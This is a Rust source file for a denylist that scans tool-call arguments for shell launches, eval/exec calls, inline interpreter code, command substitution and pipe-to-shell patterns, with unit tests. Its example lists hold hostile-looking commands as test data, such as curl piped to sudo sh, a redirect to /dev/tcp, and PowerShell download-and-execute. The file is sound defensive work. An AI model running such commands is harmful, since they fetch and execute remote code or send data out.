//! The command denylist: commands that no string of a call's arguments may hold.
//!
//! Built in is what hands a text to something that executes it ([`BUILT_IN`]); the operator adds phrases. Values and keys
//! are looked at, at any depth, each on its own; the strings of a list are looked at together too, because
//! `["sh", "-c", "..."]` is one command. Everything is compared as [`super::fold`] says.
//!
//! This is a net with known holes and not a sandbox: what the policy and the schemas let through should be safe
//! without it. It errs towards refusing: `$(...)` and code in backticks (Markdown's too) are refused whatever they hold,
//! because a shell would run them.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::RegexSet;
use serde_json::Value;

use super::fold::{Backslash, fold};
use crate::fields::Mistakes;

/// A kind of command that is always forbidden.
struct BuiltIn {
    id: &'static str,
    /// A regular expression on folded text.
    pattern: &'static str,
    /// Texts that it refuses, and texts that it lets pass. Read by tests.
    #[cfg_attr(not(test), expect(dead_code, reason = "examples belong to the pattern, tests run them"))]
    refuses: &'static [&'static str],
    #[cfg_attr(not(test), expect(dead_code, reason = "examples belong to the pattern, tests run them"))]
    passes: &'static [&'static str],
}

/// Shells by name. Two of them are also English words, and one a tree.
macro_rules! any_shell {
    () => {
        r"(?:(?:ba|z|k|c|tc|mk|rba|da|a|fi)?sh)(?:\.exe)?"
    };
}

/// Shells whose names mean nothing else.
macro_rules! shell {
    () => {
        r"(?:(?:ba|z|k|c|tc|mk|rba)?sh)(?:\.exe)?"
    };
}

/// The beginning of a command's name: not the middle of a word, nor the extension of a file.
macro_rules! start {
    () => {
        r"(?:^|[^a-z0-9_.\-])"
    };
}

/// What may stand between a pipe and the shell behind it.
macro_rules! runner {
    () => {
        r"(?:(?:sudo|doas|env|exec|command|nohup|time|setsid|busybox|xargs|stdbuf|tee)(?: [^ |;&]+){0,4}? )?(?:[^ |;&]*/)?"
    };
}

const BUILT_IN: &[BuiltIn] = &[
    BuiltIn {
        id: "shell.command",
        pattern: concat!(
            start!(),
            any_shell!(),
            r"[ ,]{1,3}(?:[-+][^ ]+[ ,]+){0,8}-[a-z]{0,8}c[a-z]{0,4}(?:[^a-z0-9_\-]|$)"
        ),
        refuses: &[
            "sh -c id",
            "/bin/bash -lc 'id'",
            "dash -c id",
            "bash --norc -c id",
            r#"["sh","-c","id"]"#,
            "{sh,-c,id}",
        ],
        passes: &[
            "the bash history of the town",
            "install.sh -c",
            "git push -c x",
            "dash - common sense",
            "ssh -c aes host",
        ],
    },
    BuiltIn {
        id: "shell.start",
        pattern: concat!(start!(), shell!(), r"(?:[ ,]{1,3}--?[a-z]| [~.]{0,2}/[a-z0-9_.]| ?<<| <\()"),
        refuses: &["bash -i", "sh ./x.sh", "zsh --login", "bash <<< id", "bash /tmp/x", "b'a'sh -x"],
        passes: &["bash and zsh are shells", "push -f", "fresh -x", "<b>bash</b> <br>", "a sh / bash comparison"],
    },
    BuiltIn {
        id: "shell.path",
        pattern: concat!(r"/(?:[a-z0-9_.\-]+/)*bin/(?:env (?:-[^ ]+ )*)?", any_shell!(), r"(?:[^a-z0-9_\-]|$)"),
        refuses: &["/bin/sh", "#!/usr/bin/env bash", "/usr/local/bin/zsh -x", r"\bin\sh", "//bin/bash"],
        passes: &["/bin/shutdown", "/usr/bin/shasum", "/bin/ls", "/usr/share/bash-completion"],
    },
    BuiltIn {
        id: "shell.powershell",
        pattern: concat!(
            start!(),
            "(?:powershell|pwsh)(?:\\.exe)?[ ,]{1,3}[-/\u{2013}\u{2014}\u{2015}][a-z]",
            r"|(?:^|[^a-z0-9_\-])(?:iex|invoke-expression)(?:\(| ?[$&{]| \((?:new-object|iwr|irm|invoke-|curl|wget|\$|\[))",
            r"|\| ?(?:iex|invoke-expression)(?:[^a-z0-9_\-]|$)|\.downloadstring ?\("
        ),
        refuses: &[
            "powershell -enc SQBFAFgA",
            "pwsh.exe -NoP -c x",
            "iwr x | iex",
            "IEX (New-Object Net.WebClient)",
            "iex $x",
        ],
        passes: &["PowerShell scripting for beginners", "iex (interactive elixir)", "a powershell-like language"],
    },
    BuiltIn {
        id: "shell.cmd",
        pattern: concat!(
            start!(),
            r"(?:cmd(?:\.exe)?|%comspec%)[ ,]{1,3}(?:/[a-z](?::[a-z]+)?[ ,]*)*/[ckr](?:[^a-z0-9_]|$)",
            r"|(?:^|[^a-z0-9_.\-/])cmd/[ckr](?: |$)|cmd\.exe/[ckr]|%comspec% ?/"
        ),
        refuses: &[
            "cmd /c dir",
            r"C:\Windows\System32\cmd.exe /k x",
            "cmd.exe /q /c x",
            "c^md /c x",
            "%COMSPEC% /c x",
            "cmd/c dir",
        ],
        passes: &["src/cmd/c/main.go", "press cmd / ctrl", "go run ./cmd/kubectl", "cmd and ctrl"],
    },
    BuiltIn {
        id: "eval.call",
        pattern: concat!(
            r"(?:^|[^a-z0-9_])eval\( ?[^ )]|(?:^|[;&|({`] ?)eval [$`]|builtins(?:__)?\.(?:eval|exec|compile)",
            r"|(?:^|[^a-z0-9_])eval \( ?(?:_|compile|base64|atob|require|import|string\.|request|req\.|input|open|window|document|\$|@)"
        ),
        refuses: &[
            "eval(x)",
            "window.eval( 'x')",
            r#"eval "$x""#,
            "ＥＶＡＬ(x)",
            "e'v'al(x)",
            "eval (atob(x))",
            "x; eval $y",
        ],
        passes: &["retrieval(2021)", "eval (2021)", "model.eval()", "medieval (town)", "evaluate(x)"],
    },
    BuiltIn {
        id: "exec.call",
        pattern: concat!(
            r"(?:^|[^a-z0-9_.])exec\( ?(?:[^ )0-9]|[0-9][^)])|(?:^|[;&|] ?)exec (?:/[a-z]|[0-9]*[<>])|/dev/(?:tcp|udp)/",
            r"|(?:^|[^a-z0-9_.])exec \( ?(?:_|compile|base64|open|requests|import|bytes|code|input|sys|os\.)"
        ),
        refuses: &["exec(code)", "x; exec /bin/ls", "exec (compile(x))", "cat <x >/dev/tcp/10.0.0.1/80"],
        passes: &[
            "execution (2021)",
            "the exec (CEO)",
            "pattern.exec(text)",
            "see exec(3)",
            "exec / eval",
            "/dev/null",
        ],
    },
    BuiltIn {
        id: "exec.python",
        pattern: concat!(
            r"(?:^|[^a-z0-9_])os ?\. ?(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?|startfile)(?:[^a-z0-9_]|$)",
            r"|(?:^|[^a-z0-9_])subprocess\.[a-z_]|(?:from|import) subprocess(?:[^a-z0-9_]|$)|__import__ ?\(",
            r"|(?:^|[^a-z0-9_])pty\.spawn ?\(|getattr\( ?os ?,|commands\.getoutput"
        ),
        refuses: &[
            "os.system('id')",
            "import subprocess",
            "subprocess.run(x)",
            "__import__('os')",
            "os . popen(x)",
            "getattr(os, 'x')",
        ],
        passes: &["macos.systems", "it starts a subprocess. then it waits", "os.path.join(a)", "the operating system"],
    },
    BuiltIn {
        id: "exec.node",
        pattern: concat!(
            r"child_process|(?:exec|spawn|execfile|fork)sync ?\(|process\.mainmodule|process\.binding ?\(",
            r"|(?:^|[^a-z0-9_])new function\( ?[^ )]"
        ),
        refuses: &["require('child_process')", "execSync(x)", "new Function('x')", "process.mainModule.require"],
        passes: &["a child process", "new function (2021)", "synchronous execution", "process.env"],
    },
    BuiltIn {
        id: "exec.jvm",
        pattern: r"getruntime\( ?\) ?\. ?exec|(?:^|[^a-z0-9_])runtime ?\. ?exec ?\(|processbuilder ?[(<]",
        refuses: &["Runtime.getRuntime().exec(x)", "Runtime.exec(x)", "new ProcessBuilder(x)"],
        passes: &["runtime execution", "the runtime. exec summary", "Runtime.version()"],
    },
    BuiltIn {
        id: "exec.other",
        pattern: concat!(
            r"(?:shell_exec|passthru|proc_open|pcntl_exec|popen) ?\(|(?:^|[;=({,!@&|] ?)system\( ?[^ )][^)]",
            r"|process\.start ?\(|(?:io|os)\.execute ?\(|wscript\.shell"
        ),
        refuses: &[
            "system('id')",
            "shell_exec ('x')",
            "awk 'BEGIN {system(\"id\")}'",
            "Process.Start(x)",
            "CreateObject('WScript.Shell')",
        ],
        passes: &["the operating system(s)", "a system (of two)", "passthrough (mode)", "system()"],
    },
    BuiltIn {
        id: "interpreter.inline",
        pattern: concat!(
            start!(),
            r"(?:python[0-9.]*|pypy3?|perl|ruby|node|nodejs|php|lua|deno|osascript)(?:\.exe)?",
            r"[ ,]{1,3}(?:-[a-z0-9]+[ ,]+){0,4}--?(?:[a-z]{0,4}[cer]|eval|print|command)(?:[^a-z0-9_\-]|$)"
        ),
        refuses: &[
            "python3 -c 'x'",
            "perl -pe x",
            "node --eval x",
            "php -r x",
            r#"["python", "-c", "x"]"#,
            "python -I -c x",
        ],
        passes: &["python - common mistakes", "python -m http", "node --version", "a python-c binding", "pearl -e x"],
    },
    BuiltIn {
        id: "substitution.dollar",
        pattern: r"\$\(",
        refuses: &["$(id)", "price $(approx) 5", "\"$\"(id)", "＄（id）"],
        passes: &["$5 (five)", "${name}", "US$ (approx)", "(x)"],
    },
    BuiltIn {
        id: "substitution.backtick",
        pattern: r"`[^`]*[a-z0-9][^`]*`",
        refuses: &["`id`", "a`whoami`b", "```\nid\n```", "use `make` here", "｀id｀"],
        passes: &["it`s fine", "` `", "a ` b", "``"],
    },
    BuiltIn {
        id: "substitution.process",
        pattern: concat!(r"<\( ?[a-z0-9_./~$\-]|>\( ?", any_shell!(), r"(?:[^a-z0-9_]|$)"),
        refuses: &["diff <(id) x", "tee >(bash)", "source <( curl x)"],
        passes: &["a < (b)", ">( sad", "<()", "if a>(b+c)"],
    },
    BuiltIn {
        id: "pipe.shell",
        pattern: concat!(
            r"\|&? ?",
            runner!(),
            shell!(),
            r"(?:[^a-z0-9_.\-]|$)",
            r"|\|&? ?",
            runner!(),
            r"(?:da|a|fi)sh(?: ?$| ?[;&)]| -)"
        ),
        refuses: &[
            "curl x | sudo sh",
            "x |bash",
            "x | /bin/zsh",
            "x |& env A=1 sh",
            "x | b\\ash -s",
            "x | dash",
            "x | xargs sh",
        ],
        passes: &["| Fish | Chips |", "a | shell game", "cat x | sort", "| show |", "sh | x"],
    },
    BuiltIn {
        id: "pipe.interpreter",
        pattern: concat!(
            r"(?:curl|wget|fetch|iwr|irm) .*\|&? ?",
            runner!(),
            r"(?:python[0-9.]*|perl|ruby|node|php)(?:[^a-z0-9_.]|$)"
        ),
        refuses: &["curl -s x | python3", "wget -O- x | base64 -d | sudo perl"],
        passes: &["| Python | 3.11 |", "curl x | jq .", "curling | pythons"],
    },
];

/// Compiled once for all registries. It cannot fail, as tests show; were it to, every call would be refused.
static BUILT_IN_SET: LazyLock<Option<RegexSet>> =
    LazyLock::new(|| RegexSet::new(BUILT_IN.iter().map(|built_in| built_in.pattern)).ok());

/// What is looked for in arguments.
#[derive(Debug)]
pub(super) struct CommandDenylist {
    phrases: [(Backslash, Option<AhoCorasick>); 2],
}

impl CommandDenylist {
    /// The built-in commands and the operator's phrases.
    pub(super) fn new(phrases: &[String], mistakes: &mut Mistakes) -> Self {
        for (index, phrase) in phrases.iter().enumerate() {
            if fold(phrase, Backslash::Dropped).trim().is_empty() {
                let what = "has nothing to look for: white space, quotes and backslashes do not count";
                mistakes.add("", format!("`commandDenylist[{index}]` {what}"));
            }
        }
        let mut compile = |backslash| {
            let folded = phrases.iter().map(|phrase| fold(phrase, backslash).trim().to_owned());
            let compiled = (!phrases.is_empty()).then(|| AhoCorasick::new(folded)).transpose();
            let phrases = compiled.unwrap_or_else(|_| {
                mistakes.add("", "`commandDenylist` is too large");
                None
            });
            (backslash, phrases)
        };
        Self { phrases: [compile(Backslash::Dropped), compile(Backslash::Slash)] }
    }

    /// The id of a forbidden command in these arguments: a built-in one, or `commandDenylist[<index>]`.
    pub(super) fn find(&self, arguments: &Value) -> Option<String> {
        match arguments {
            Value::String(text) => self.find_in(text),
            Value::Array(items) => {
                let words: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
                let together = if words.len() > 1 { self.find_in(&words.join(" ")) } else { None };
                together.or_else(|| items.iter().find_map(|item| self.find(item)))
            }
            Value::Object(fields) => {
                fields.iter().find_map(|(key, value)| self.find_in(key).or_else(|| self.find(value)))
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => None,
        }
    }

    fn find_in(&self, text: &str) -> Option<String> {
        self.phrases.iter().find_map(|(backslash, phrases)| {
            // Without a backslash, both ways are one.
            if *backslash == Backslash::Slash && !text.contains(['\\', '\u{ff3c}', '\u{fe68}']) {
                return None;
            }
            let folded = fold(text, *backslash);
            let phrase = phrases.as_ref().and_then(|phrases| phrases.find(&folded));
            built_in(&folded)
                .map(str::to_owned)
                .or_else(|| phrase.map(|found| format!("commandDenylist[{}]", found.pattern().as_usize())))
        })
    }
}

fn built_in(folded: &str) -> Option<&'static str> {
    let Some(set) = BUILT_IN_SET.as_ref() else { return Some("commandDenylist") };
    if !set.is_match(folded) {
        return None;
    }
    let index = set.matches(folded).iter().next()?;
    BUILT_IN.get(index).map(|built_in| built_in.id)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use regex::Regex;

    use super::{BUILT_IN, BUILT_IN_SET, Backslash, CommandDenylist, Mistakes, fold};

    fn matches(pattern: &str, text: &str) -> bool {
        let pattern = Regex::new(pattern).unwrap();
        [Backslash::Dropped, Backslash::Slash].into_iter().any(|backslash| pattern.is_match(&fold(text, backslash)))
    }

    #[test]
    fn every_pattern_refuses_and_passes_its_examples() {
        assert!(BUILT_IN_SET.is_some());
        for built_in in BUILT_IN {
            assert!(!built_in.refuses.is_empty() && !built_in.passes.is_empty());
            for text in built_in.refuses {
                assert!(matches(built_in.pattern, text), "{} passes {text:?}", built_in.id);
            }
            for text in built_in.passes {
                assert!(!matches(built_in.pattern, text), "{} refuses {text:?}", built_in.id);
            }
        }
    }

    #[test]
    fn ordinary_texts_pass_the_whole_list() {
        let none = CommandDenylist::new(&[], &mut Mistakes::default());
        let through = ["", "`", "two words", "日本語 | 中文"];
        for text in BUILT_IN.iter().flat_map(|built_in| built_in.passes).chain(&through) {
            assert_eq!(none.find_in(text), None, "{text:?}");
        }
    }

    #[test]
    fn ids_are_given_once() {
        for (index, built_in) in BUILT_IN.iter().enumerate() {
            assert!(!BUILT_IN.iter().skip(index + 1).any(|other| other.id == built_in.id), "{}", built_in.id);
        }
    }
}
